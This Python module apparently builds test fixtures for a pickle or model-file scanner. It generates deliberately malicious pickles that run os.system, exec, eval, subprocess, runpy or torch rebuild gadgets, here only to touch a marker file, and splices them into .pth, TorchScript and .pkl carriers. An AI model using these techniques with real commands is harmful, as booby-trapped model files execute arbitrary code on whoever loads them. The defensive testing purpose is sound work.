"""Harmless payloads: pickles that would make a file if anything in them ran, and the carriers they come in."""

from __future__ import annotations

import builtins
import io
import os
import pickle
import runpy
import struct
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch


class Call:
    """An object whose unpickling calls a function."""

    def __init__(self, function: Any, *args: Any, state: Any = None, items: Any = None, pairs: Any = None) -> None:
        self.rest = (function, args, state, items, pairs)

    def __reduce_ex__(self, protocol: Any) -> tuple[Any, ...]:
        function, args, state, items, pairs = self.rest
        return (function, args, state, iter(items) if items else None, iter(pairs) if pairs else None)


class Setter:
    """A class whose attributes and items have a side effect when they are set."""

    def __setstate__(self, state: str) -> None:
        Path(state).touch()

    def __setitem__(self, key: str, value: str) -> None:
        Path(value).touch()

    def append(self, value: str) -> None:
        Path(value).touch()


def raw(module: str, name: str, text: str, how: str) -> bytes:
    """A call written by hand in the opcodes of protocol 0, 1 or 2."""
    quoted = text.encode().join([b"X" + struct.pack("<I", len(text)), b""])
    target = f"{module}\n{name}\n".encode()
    return {
        "inst": b"(" + quoted + b"i" + target + b".",
        "obj": b"(c" + target + quoted + b"o.",
        "reduce": b"c" + target + quoted + b"\x85R.",
        "dropped": b"c" + target + quoted + b"\x85R0N.",
        "stack": b"\x80\x04" + _short(module) + _short(name) + b"\x93" + quoted + b"\x85R.",
    }[how]


def _short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def script(mark: Path) -> str:
    """Code that makes a file."""
    return f"open({str(mark)!r}, 'w').close()"


def payloads(mark: Path) -> dict[str, Any]:
    """Name → object whose unpickling by Python's own pickle would make the file `mark` (`bytes`: a pickle already).

    `mark` + ".py" must hold `script(mark)`.
    """
    touch, code = f"touch {mark}", script(mark)
    legacy = io.BytesIO()
    torch.save(Call(os.system, touch), legacy, _use_new_zipfile_serialization=False)
    found: dict[str, Any] = {
        "os.system": Call(os.system, touch),
        "exec": Call(builtins.exec, code),
        "eval": Call(builtins.eval, code),
        "subprocess": Call(subprocess.call, ["touch", str(mark)]),
        "runpy": Call(runpy.run_path, f"{mark}.py"),
        "dotted name": raw("os", "path.os.system", touch, "stack"),
        "open": Call(builtins.open, str(mark), "w"),
        "makedirs": Call(os.makedirs, str(mark)),
        "nested pickle": Call(pickle.loads, pickle.dumps(Call(os.system, touch))),
        "torch bytes": Call(torch.storage._load_from_bytes, pickle.dumps(Call(os.system, touch))),
        "torch bytes, legacy": Call(torch.storage._load_from_bytes, legacy.getvalue()),
        "rebuild parameter": Call(torch._utils._rebuild_parameter, Call(os.system, touch), False, {}),
        "rebuild from type": Call(torch._tensor._rebuild_from_type_v2, os.system, torch.Tensor, (touch,), {}),
        "state": Call(Setter, state=str(mark)),
        "items": Call(Setter, items=[str(mark)]),
        "pairs": Call(Setter, pairs=[("a", str(mark))]),
        "key of a dict": {Call(os.system, touch): 1},
        "inside a tuple in a set": {(Call(os.system, touch),)},
        "numpy objects": np.array([Call(os.system, touch)], dtype=object),
    }
    for how in ("inst", "obj", "reduce", "dropped", "stack"):
        found[f"by hand, {how}"] = raw("os", "system", touch, how)
    return found


def as_pickle(payload: Any, protocol: int = 2) -> bytes:
    return payload if isinstance(payload, bytes) else pickle.dumps(payload, protocol)


def whole(state: dict[str, Any], payload: Any) -> Any:
    return {"model": state, "args": payload}


def zipped(state: dict[str, Any], payload: Any, path: Path) -> None:
    """torch.save's zip file with the payload beside the weights; one written by hand is spliced in."""
    torch.save(whole(state, None if isinstance(payload, bytes) else payload), path)
    if isinstance(payload, bytes):
        edit_zip(path, "data.pkl", lambda data: spliced(data, payload))


def legacy(state: dict[str, Any], payload: Any, path: Path) -> None:
    torch.save(whole(state, payload), path, _use_new_zipfile_serialization=False)


def scripted(state: dict[str, Any], payload: Any, path: Path) -> None:
    """The same with the marks of a TorchScript archive."""
    zipped(state, payload, path)
    with zipfile.ZipFile(path, "a") as archive:
        root = archive.namelist()[0].split("/")[0]
        archive.writestr(f"{root}/constants.pkl", as_pickle(payload))
        archive.writestr(f"{root}/code/__torch__.py", "import os\nos.system('false')\n")


def plain(state: dict[str, Any], payload: Any, path: Path) -> None:
    arrays = {name: value.numpy() for name, value in state.items()}
    data = pickle.dumps(whole(arrays, None if isinstance(payload, bytes) else payload), 2)
    path.write_bytes(spliced(data, payload) if isinstance(payload, bytes) else data)


CARRIERS: dict[str, Callable[[dict[str, Any], Any, Path], None]] = {
    "a.pth": zipped, "legacy.pth": legacy, "script.pt": scripted, "a.pkl": plain,
}  # fmt: skip


def spliced(data: bytes, payload: bytes) -> bytes:
    """A pickle that carries out another one first and drops its result."""
    inner = payload[2:-1] if payload[:1] == b"\x80" else payload[:-1]
    assert data[:1] == b"\x80" and payload[-1:] == b"."
    version = max(data[1], payload[1] if payload[:1] == b"\x80" else 2)
    return bytes([0x80, version]) + inner + b"0" + data[2:]


def edit_zip(path: Path, suffix: str, change: Callable[[bytes], bytes]) -> None:
    """Rewrites one member of a stored archive."""
    with zipfile.ZipFile(path) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members:
            archive.writestr(name, change(data) if name.endswith(suffix) else data)
